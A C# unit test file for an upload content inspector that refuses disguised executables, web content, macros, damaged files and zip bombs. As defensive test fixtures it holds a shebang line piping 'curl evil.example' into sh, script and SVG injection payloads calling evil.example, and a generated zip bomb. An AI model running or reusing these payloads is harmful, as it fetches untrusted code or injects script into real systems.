using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using ComplianceOs.Domain.EvidenceVault.Inspection;

namespace ComplianceOs.Domain.Tests.EvidenceVault;

public class ContentInspectorTests
{
    private const string Accepted = "PDF, PNG, JPEG, XLSX, DOCX, CSV or plain text";

    // Built once: a real workbook plus a 1 GB entry of zeros that packs to about 1 MB (~0.2 s to make).
    private static readonly Lazy<byte[]> GigabyteBomb = new(() =>
        EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddZeros(zip, "xl/media/image1.bin", 1L << 30)));

    // ---- Accepted kinds ----

    [Theory]
    [InlineData("challan.pdf", EvidenceFileType.Pdf, "application/pdf")]
    [InlineData("CHALLAN.PDF", EvidenceFileType.Pdf, "application/pdf")]
    public void Inspect_AcceptsAPdf(string name, EvidenceFileType type, string contentType) =>
        AssertAccepted(Inspect(EvidenceFiles.Pdf(), name), type, contentType);

    [Fact]
    public void Inspect_AcceptsAPdf_WithJunkBeforeItsHeaderWithinTheFirstKilobyte() =>
        AssertAccepted(Inspect(EvidenceFiles.Pdf(leadingJunk: new string(' ', 500)), "scan.pdf"), EvidenceFileType.Pdf, "application/pdf");

    [Fact]
    public void Inspect_AcceptsAPng() =>
        AssertAccepted(Inspect(EvidenceFiles.Png(), "receipt.png"), EvidenceFileType.Png, "image/png");

    [Theory]
    [InlineData("photo.jpg")]
    [InlineData("photo.jpeg")]
    public void Inspect_AcceptsAJpeg(string name) =>
        AssertAccepted(Inspect(EvidenceFiles.Jpeg(), name), EvidenceFileType.Jpeg, "image/jpeg");

    [Fact]
    public void Inspect_AcceptsAJpeg_WithPaddingAfterItsEndMarker() =>
        AssertAccepted(Inspect([.. EvidenceFiles.Jpeg(), .. new byte[32]], "photo.jpg"), EvidenceFileType.Jpeg, "image/jpeg");

    [Fact]
    public void Inspect_AcceptsAnXlsx() => AssertAccepted(
        Inspect(EvidenceFiles.Xlsx(), "GSTR-3B March.xlsx"),
        EvidenceFileType.Xlsx,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");

    [Fact]
    public void Inspect_AcceptsADocx() => AssertAccepted(
        Inspect(EvidenceFiles.Docx(), "board resolution.DOCX"),
        EvidenceFileType.Docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document");

    [Fact]
    public void Inspect_AcceptsAnXlsx_WrittenWithDataDescriptors()
    {
        var workbook = EvidenceFiles.Xlsx(streamed: true);
        Assert.NotEqual(0, workbook[6] & 0x08); // the first local header says its sizes follow the data

        AssertAccepted(Inspect(workbook, "export.xlsx"), EvidenceFileType.Xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    }

    [Fact]
    public void Inspect_AcceptsALargeRealisticWorkbook_BelowTheRatioAndSizeBounds()
    {
        // 60,000 rows of typical ledger cells: repetitive XML, well compressed, but nowhere near 100:1.
        var sheet = new StringBuilder("""<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>""");
        for (var r = 1; r <= 60_000; r++)
        {
            sheet.Append($"""<row r="{r}"><c r="A{r}"><v>{r * 37 % 100_003}</v></c><c r="B{r}" t="inlineStr"><is><t>INV-{r:D6}</t></is></c><c r="C{r}"><v>{r * 1.18:F2}</v></c></row>""");
        }

        sheet.Append("</sheetData></worksheet>");
        var workbook = EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddText(zip, "xl/worksheets/sheet2.xml", sheet.ToString()));

        AssertAccepted(Inspect(workbook, "ledger.xlsx"), EvidenceFileType.Xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    }

    [Fact]
    public void Inspect_AcceptsCsv_WhenNamedCsv() =>
        AssertAccepted(Inspect("GSTIN,Amount\r\n27AAACA1234F1ZA,1180.00\r\n"u8.ToArray(), "payments.csv"), EvidenceFileType.Csv, "text/csv");

    [Theory]
    [InlineData("notes.txt")]
    [InlineData("notes.text")]
    [InlineData("audit.log")]
    [InlineData("README.md")]
    public void Inspect_AcceptsText_UnderTheTextExtensions(string name) =>
        AssertAccepted(Inspect("Filed on 20 March.\n\tChallan: 1234\fPage 2\r\n"u8.ToArray(), name), EvidenceFileType.Text, "text/plain");

    [Fact]
    public void Inspect_AcceptsUtf8Text_WithABomAndMultiByteCharactersAcrossChunkBoundaries()
    {
        // 3-byte "₹" and 4-byte "𝄞" never line up with the 64 KB read chunks, so sequences are split between them.
        var text = string.Concat(Enumerable.Repeat("₹1,180 paid — Ānanyā 𝄞\n", 20_000));
        byte[] bytes = [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)];

        AssertAccepted(Inspect(bytes, "ledger.txt"), EvidenceFileType.Text, "text/plain");
    }

    [Fact]
    public void Inspect_ReadsALargeTextInChunks_NotAllAtOnce()
    {
        var bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("27AAACA1234F1ZA,1180.00,paid\n", 300_000)));
        var stream = new MemoryStream(bytes);
        var inspector = new ContentInspector();

        var before = GC.GetAllocatedBytesForCurrentThread();
        var result = inspector.Inspect(stream, "big.csv");
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.True(bytes.Length > 8_000_000);
        AssertAccepted(result, EvidenceFileType.Csv, "text/csv");
        Assert.True(allocated < 2_000_000, $"allocated {allocated:N0} bytes for a {bytes.Length:N0}-byte file");
    }

    [Fact]
    public void Inspect_AcceptsText_ThatMerelyMentionsThePdfHeader() =>
        AssertAccepted(Inspect("Every PDF starts with %PDF-1.7.\n"u8.ToArray(), "notes.txt"), EvidenceFileType.Text, "text/plain");

    [Fact]
    public void Inspect_LeavesTheStreamAtItsStart()
    {
        var stream = new MemoryStream(EvidenceFiles.Xlsx());

        new ContentInspector().Inspect(stream, "book.xlsx");

        Assert.Equal(0, stream.Position);
    }

    // ---- Programs and scripts ----

    [Fact]
    public void Inspect_RefusesAWindowsProgram_NamedAsAPdf()
    {
        var refusal = AssertRefused(Inspect(WindowsProgram(), "invoice.pdf"));

        Assert.Contains("named .pdf", refusal);
        Assert.Contains("Windows program (EXE)", refusal);
    }

    [Fact]
    public void Inspect_RefusesAWindowsProgram_NamedAsWhatItIs()
    {
        var refusal = AssertRefused(Inspect(WindowsProgram(), "setup.exe"));

        Assert.Contains("Windows program", refusal);
        Assert.Contains("never accepted", refusal);
    }

    [Theory]
    [InlineData(new byte[] { 0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00 }, "Linux program (ELF)")]
    [InlineData(new byte[] { 0xCF, 0xFA, 0xED, 0xFE, 0x0C, 0x00, 0x00, 0x01 }, "macOS program (Mach-O)")]
    [InlineData(new byte[] { 0xFE, 0xED, 0xFA, 0xCE, 0x00, 0x00, 0x00, 0x12 }, "macOS program (Mach-O)")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x02 }, "universal binary or a Java class")]
    public void Inspect_RefusesOtherPrograms_ByName(byte[] start, string named)
    {
        var refusal = AssertRefused(Inspect([.. start, .. new byte[256]], "statement.pdf"));

        Assert.Contains(named, refusal);
    }

    [Theory]
    [InlineData("run.txt")]
    [InlineData("data.csv")]
    public void Inspect_RefusesAShebangScript_EvenAsText(string name)
    {
        var refusal = AssertRefused(Inspect("#!/bin/sh\ncurl evil.example | sh\n"u8.ToArray(), name));

        Assert.Contains("script", refusal);
    }

    [Fact]
    public void Inspect_TreatsTextStartingWithMZ_AsText() =>
        AssertAccepted(Inspect("MZ Traders,1180\n"u8.ToArray(), "vendors.csv"), EvidenceFileType.Csv, "text/csv");

    // ---- Name against content ----

    [Fact]
    public void Inspect_RefusesAPng_NamedAsAPdf() =>
        Assert.Equal("the file is named .pdf but it is a PNG image", AssertRefused(Inspect(EvidenceFiles.Png(), "challan.pdf")));

    [Fact]
    public void Inspect_RefusesAPdf_NamedAsAJpeg() =>
        Assert.Contains("named .jpg but it is a PDF", AssertRefused(Inspect(EvidenceFiles.Pdf(), "photo.jpg")));

    [Fact]
    public void Inspect_RefusesADocx_NamedAsAnXlsx() =>
        Assert.Contains("named .xlsx but it is a Word document (DOCX)", AssertRefused(Inspect(EvidenceFiles.Docx(), "sheet.xlsx")));

    [Fact]
    public void Inspect_RefusesAnXlsx_NamedAsADocx() =>
        Assert.Contains("named .docx but it is an Excel workbook (XLSX)", AssertRefused(Inspect(EvidenceFiles.Xlsx(), "letter.docx")));

    [Fact]
    public void Inspect_RefusesAnXlsx_NamedAsAPdf() =>
        Assert.Contains("named .pdf but it is a ZIP archive", AssertRefused(Inspect(EvidenceFiles.Xlsx(), "book.pdf")));

    [Fact]
    public void Inspect_RefusesText_NamedAsAPdf() =>
        Assert.Contains("named .pdf but it is plain text", AssertRefused(Inspect("just words\n"u8.ToArray(), "scan.pdf")));

    [Fact]
    public void Inspect_RefusesUnknownBinary_NamedAsAPdf() =>
        Assert.Contains("is not a PDF", AssertRefused(Inspect([0x00, 0x13, 0x37, 0x00, 0xFF], "scan.pdf")));

    [Fact]
    public void Inspect_RefusesAHeicPhoto_NamedAsAJpeg()
    {
        byte[] heic = [0x00, 0x00, 0x00, 0x18, .. "ftypheic"u8, 0x00, 0x00, 0x00, 0x00, .. "mif1heic"u8];

        Assert.Contains("named .jpg but it is a HEIC/HEIF photo", AssertRefused(Inspect(heic, "IMG_0001.jpg")));
    }

    [Fact]
    public void Inspect_RefusesAnOldFormatOrEncryptedOfficeFile_NamedAsAnXlsx()
    {
        byte[] compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

        var refusal = AssertRefused(Inspect(compound, "book.xlsx"));

        Assert.Contains("password-protected", refusal);
        Assert.Contains(".xls", refusal);
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")]
    [InlineData("  <script>fetch('https://evil.example')</script>")]
    [InlineData("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")]
    public void Inspect_RefusesWebContent_EvenAsText(string content) =>
        Assert.Contains("web page or script", AssertRefused(Inspect(Encoding.UTF8.GetBytes(content), "notes.txt")));

    [Fact]
    public void Inspect_RefusesWebContent_NamedAsAPdf() =>
        Assert.Contains("named .pdf but it is a web page", AssertRefused(Inspect("<html><script>x()</script></html>"u8.ToArray(), "invoice.pdf")));

    // ---- Extensions ----

    [Theory]
    [InlineData("invoice")]
    [InlineData("invoice.")]
    [InlineData(".pdf")]
    public void Inspect_RefusesANameWithoutExtension_SayingWhatIsAccepted(string name)
    {
        var refusal = AssertRefused(Inspect(EvidenceFiles.Pdf(), name));

        Assert.Contains("no extension", refusal);
        Assert.Contains(Accepted, refusal);
    }

    [Theory]
    [InlineData("archive.zip")]
    [InlineData("script.bat")]
    [InlineData("scan.tiff")]
    [InlineData("notes.rtf")]
    public void Inspect_RefusesAnUnacceptedExtension_SayingWhatIsAccepted(string name)
    {
        var refusal = AssertRefused(Inspect("plain words\n"u8.ToArray(), name));

        Assert.Contains($"files named {SafeFileName.Extension(name)} are not accepted", refusal);
        Assert.Contains(Accepted, refusal);
    }

    [Theory]
    [InlineData("letter.doc", "save a Word .doc as .docx")]
    [InlineData("book.xls", "save an Excel .xls as .xlsx")]
    [InlineData("book.xlsm", "macros are never accepted")]
    public void Inspect_RefusesOldAndMacroExtensions_WithAHint(string name, string hint) =>
        Assert.Contains(hint, AssertRefused(Inspect(EvidenceFiles.Xlsx(), name)));

    // ---- Damaged or incomplete files ----

    [Fact]
    public void Inspect_RefusesATruncatedPdf()
    {
        var pdf = EvidenceFiles.Pdf();

        var refusal = AssertRefused(Inspect(pdf[..(pdf.Length - 7)], "challan.pdf"));

        Assert.Contains("%%EOF", refusal);
        Assert.Contains("incomplete", refusal);
    }

    [Fact]
    public void Inspect_RefusesAPdfHeader_BeyondTheFirstKilobyte() =>
        Assert.False(Inspect(EvidenceFiles.Pdf(leadingJunk: new string(' ', 1100)), "scan.pdf").Accepted);

    [Fact]
    public void Inspect_RefusesATruncatedJpeg()
    {
        var jpeg = EvidenceFiles.Jpeg();

        Assert.Contains("end-of-image marker", AssertRefused(Inspect(jpeg[..^2], "photo.jpg")));
    }

    [Fact]
    public void Inspect_RefusesAPngWithoutItsHeaderChunk()
    {
        var png = EvidenceFiles.Png();
        png[12] = (byte)'X';

        Assert.Contains("IHDR", AssertRefused(Inspect(png, "receipt.png")));
    }

    [Fact]
    public void Inspect_RefusesAnEmptyFile() =>
        Assert.Equal("the file is empty", AssertRefused(Inspect([], "empty.txt")));

    // ---- Text ----

    [Fact]
    public void Inspect_RefusesInvalidUtf8()
    {
        // "Café" as Windows-1252: 0xE9 is not valid UTF-8 on its own.
        var refusal = AssertRefused(Inspect([.. "Caf"u8, 0xE9, .. ",12\n"u8], "vendors.csv"));

        Assert.Contains("not valid UTF-8", refusal);
        Assert.Contains("position 3", refusal);
    }

    [Fact]
    public void Inspect_RefusesAnIncompleteUtf8SequenceAtTheEnd() =>
        Assert.Contains("not valid UTF-8", AssertRefused(Inspect([.. "amount ₹"u8.ToArray()[..^1]], "notes.txt")));

    [Fact]
    public void Inspect_RefusesUtf16Text_AskingForUtf8()
    {
        byte[] utf16 = [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("GSTIN,Amount\r\n")];

        var refusal = AssertRefused(Inspect(utf16, "export.csv"));

        Assert.Contains("UTF-16", refusal);
        Assert.Contains("save it as UTF-8", refusal);
    }

    [Fact]
    public void Inspect_RefusesTextWithANulByte()
    {
        var refusal = AssertRefused(Inspect("line one\nline\0two\n"u8.ToArray(), "notes.txt"));

        Assert.Contains("NUL byte", refusal);
        Assert.Contains("line 2", refusal);
    }

    [Fact]
    public void Inspect_RefusesTextWithOtherControlCharacters() =>
        Assert.Contains("U+001B", AssertRefused(Inspect("colour \u001b[31mred\n"u8.ToArray(), "notes.txt")));

    // ---- Office packages ----

    [Fact]
    public void Inspect_RefusesAPlainZip_WithoutAWorkbook_NamedAsAnXlsx()
    {
        var zip = EvidenceFiles.Package(null, ("report.txt", "hello"), ("data/values.csv", "a,b\n"));

        var refusal = AssertRefused(Inspect(zip, "report.xlsx"));

        Assert.Contains("not an Excel workbook (XLSX)", refusal);
        Assert.Contains("without a workbook", refusal);
    }

    [Fact]
    public void Inspect_RefusesAWorkbookWithoutContentTypes()
    {
        var zip = EvidenceFiles.Package(null, ("xl/workbook.xml", "<workbook/>"));

        Assert.Contains("not an Excel workbook", AssertRefused(Inspect(zip, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesAMacroEnabledWorkbook_ByItsContentType()
    {
        var refusal = AssertRefused(Inspect(EvidenceFiles.Xlsx(EvidenceFiles.XlsmMain), "book.xlsx"));

        Assert.Contains("macro-enabled", refusal);
        Assert.Contains(".xlsm", refusal);
    }

    [Fact]
    public void Inspect_RefusesAWorkbookCarryingAVbaProject()
    {
        var workbook = EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddText(zip, "xl/vbaProject.bin", "not really VBA"));

        Assert.Contains("macro-enabled", AssertRefused(Inspect(workbook, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesADocumentWhoseContentTypeIsNotADocument()
    {
        var refusal = AssertRefused(Inspect(EvidenceFiles.Docx("application/xml"), "letter.docx"));

        Assert.Contains("not a valid Word file", refusal);
        Assert.Contains("[Content_Types].xml", refusal);
    }

    [Fact]
    public void Inspect_RefusesAnXlsxWhoseWorkbookPartIsNotAWorkbook()
    {
        var zip = EvidenceFiles.Package(
            null,
            ("[Content_Types].xml", $"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="{EvidenceFiles.XlsxMain}"/></Types>"""),
            ("xl/workbook.xml", "<html><body>hi</body></html>"));

        Assert.Contains("xl/workbook.xml is not a workbook", AssertRefused(Inspect(zip, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesContentTypesWithADtd()
    {
        var zip = EvidenceFiles.Package(
            null,
            ("[Content_Types].xml", """<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"""),
            ("xl/workbook.xml", "<workbook/>"));

        Assert.Contains("its XML is damaged", AssertRefused(Inspect(zip, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesAPasswordProtectedEntry()
    {
        var workbook = EvidenceFiles.WithFlags(EvidenceFiles.Xlsx(), "xl/worksheets/sheet1.xml", 0x0001);

        Assert.Contains("password-protected", AssertRefused(Inspect(workbook, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesAPackageListingAPartTwice()
    {
        var workbook = EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddText(zip, "xl/workbook.xml", "<workbook/>"));

        Assert.Contains("twice", AssertRefused(Inspect(workbook, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesTooManyParts()
    {
        var workbook = EvidenceFiles.Xlsx(more: zip =>
        {
            for (var i = 0; i < InspectionLimits.MaxPackageEntries; i++)
            {
                zip.CreateEntry($"xl/media/p{i}.bin", CompressionLevel.NoCompression);
            }
        });

        var refusal = AssertRefused(Inspect(workbook, "book.xlsx"));

        Assert.Contains("10,005 parts", refusal);
        Assert.Contains("zip bomb", refusal);
    }

    [Fact]
    public void Inspect_RefusesZip64()
    {
        var workbook = EvidenceFiles.WithEntryCount(EvidenceFiles.Xlsx(), ushort.MaxValue);

        Assert.Contains("ZIP64", AssertRefused(Inspect(workbook, "book.xlsx")));
    }

    [Fact]
    public void Inspect_NeverThrows_OnDamagedPackages()
    {
        // Truncations and byte flips across the whole package, headers and directory included.
        var workbook = EvidenceFiles.Xlsx();
        var random = new Random(20261123);
        var inspector = new ContentInspector();
        var cases = 0;
        for (var length = 4; length < workbook.Length; length += 7)
        {
            Assert.False(inspector.Inspect(new MemoryStream(workbook[..length]), "book.xlsx").Accepted);
            cases++;
        }

        for (var i = 0; i < 3000; i++)
        {
            var damaged = (byte[])workbook.Clone();
            for (var flips = random.Next(1, 4); flips > 0; flips--)
            {
                damaged[random.Next(4, damaged.Length)] = (byte)random.Next(256);
            }

            var result = inspector.Inspect(new MemoryStream(damaged), "book.xlsx");
            Assert.True(result.Accepted || result.Refusal is not null);
            cases++;
        }

        Assert.True(cases > 3000);
    }

    // ---- Zip bombs ----

    [Fact]
    public void Inspect_RefusesAZipBomb_ThatDeclaresItsSize()
    {
        var (result, elapsed, allocated) = InspectMeasured(GigabyteBomb.Value, "book.xlsx");

        var refusal = AssertRefused(result);
        Assert.Contains("unpacks to more than 100 MB", refusal);
        Assert.Contains("zip bomb", refusal);
        AssertQuickAndSmall(elapsed, allocated);
    }

    [Theory]
    [InlineData(1_000u)]
    [InlineData(50u * 1024 * 1024)]
    public void Inspect_RefusesAZipBomb_WhoseDirectoryLiesAboutItsSize(uint declared)
    {
        var lying = EvidenceFiles.WithDeclaredSize(GigabyteBomb.Value, "xl/media/image1.bin", declared);

        var (result, elapsed, allocated) = InspectMeasured(lying, "book.xlsx");

        var refusal = AssertRefused(result);
        Assert.Contains("the part 'xl/media/image1.bin' unpacks to more than the size its directory declares", refusal);
        Assert.Contains("zip bomb", refusal);
        AssertQuickAndSmall(elapsed, allocated);
    }

    [Fact]
    public void Inspect_RefusesAnEntryCompressedBeyondTheRatio_EvenUnderTheSizeBound()
    {
        var workbook = EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddZeros(zip, "xl/media/image1.bin", 20 * 1024 * 1024));

        var (result, elapsed, allocated) = InspectMeasured(workbook, "book.xlsx");

        var refusal = AssertRefused(result);
        Assert.Contains("the part 'xl/media/image1.bin'", refusal);
        Assert.Contains("compression ratio above 100:1", refusal);
        AssertQuickAndSmall(elapsed, allocated);
    }

    [Fact]
    public void Inspect_RefusesAZipBomb_WhoseDirectoryUnderstatesItsSizeSlightly()
    {
        // 20 MB of zeros declared as 900 KB: under the ratio grace, so only unpacking shows the lie.
        var workbook = EvidenceFiles.Xlsx(more: zip => EvidenceFiles.AddZeros(zip, "xl/media/image1.bin", 20 * 1024 * 1024));
        var lying = EvidenceFiles.WithDeclaredSize(workbook, "xl/media/image1.bin", 900_000);

        Assert.Contains("more than the size its directory declares", AssertRefused(Inspect(lying, "book.xlsx")));
    }

    [Fact]
    public void Inspect_RefusesADirectoryEntryPointingAtAnotherEntrysBytes()
    {
        // The sheet's directory record is pointed at the workbook's local header: two names, one set of bytes.
        var workbook = EvidenceFiles.Xlsx();
        var pointed = EvidenceFiles.WithLocalHeaderOf(workbook, "xl/worksheets/sheet1.xml", "xl/workbook.xml");

        var refusal = AssertRefused(Inspect(pointed, "book.xlsx"));

        Assert.Contains("not a valid Excel file", refusal);
        Assert.Contains("the part 'xl/worksheets/sheet1.xml'", refusal);
    }

    private static InspectionResult Inspect(byte[] bytes, string name) =>
        new ContentInspector().Inspect(new MemoryStream(bytes), name);

    private static (InspectionResult Result, TimeSpan Elapsed, long Allocated) InspectMeasured(byte[] bytes, string name)
    {
        var stream = new MemoryStream(bytes);
        var inspector = new ContentInspector();
        var before = GC.GetAllocatedBytesForCurrentThread();
        var clock = Stopwatch.StartNew();
        var result = inspector.Inspect(stream, name);
        clock.Stop();
        return (result, clock.Elapsed, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    private static void AssertQuickAndSmall(TimeSpan elapsed, long allocated)
    {
        Assert.True(elapsed < TimeSpan.FromSeconds(2), $"took {elapsed.TotalMilliseconds:N0} ms");
        Assert.True(allocated < 50L * 1024 * 1024, $"allocated {allocated:N0} bytes");
    }

    private static void AssertAccepted(InspectionResult result, EvidenceFileType type, string contentType)
    {
        Assert.Null(result.Refusal);
        Assert.Equal(type, result.Type);
        Assert.Equal(contentType, result.ContentType);
    }

    private static string AssertRefused(InspectionResult result)
    {
        Assert.False(result.Accepted);
        Assert.Null(result.ContentType);
        return Assert.IsType<string>(result.Refusal);
    }

    /// <summary>A DOS header pointing at a PE signature, as every Windows executable starts.</summary>
    private static byte[] WindowsProgram()
    {
        var exe = new byte[512];
        "MZ"u8.CopyTo(exe);
        exe[2] = 0x90;
        exe[0x3C] = 0x80;
        "This program cannot be run in DOS mode."u8.CopyTo(exe.AsSpan(0x4E));
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        return exe;
    }
}
